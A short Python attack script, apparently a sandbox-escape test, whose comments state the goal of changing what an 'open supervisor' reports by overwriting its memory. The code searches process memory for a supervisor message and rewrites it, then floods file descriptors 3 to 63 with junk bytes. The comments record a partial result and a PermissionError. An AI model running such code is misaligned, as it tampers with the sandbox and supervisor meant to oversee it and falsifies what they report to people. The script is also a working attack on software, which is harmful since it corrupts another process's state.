# weakness: open supervisor
# goal: change what the supervisor says by changing its memory
# reached: {"error": "the code wrote to a descriptor of the sandbox what does not belong there: A FRAME OF AN UNKNOWN VERSION or kind"}
# refused: PermissionError
import os
import time

from attack import memory

for file, at in memory(1, b"a frame of an unknown version or kind", "rb+"):
    file.seek(at)
    file.write(b"A FRAME OF AN UNKNOWN VERSION")
for descriptor in range(3, 64):
    try:
        os.write(descriptor, b"\xff" * 64)
    except OSError:
        continue
time.sleep(10)
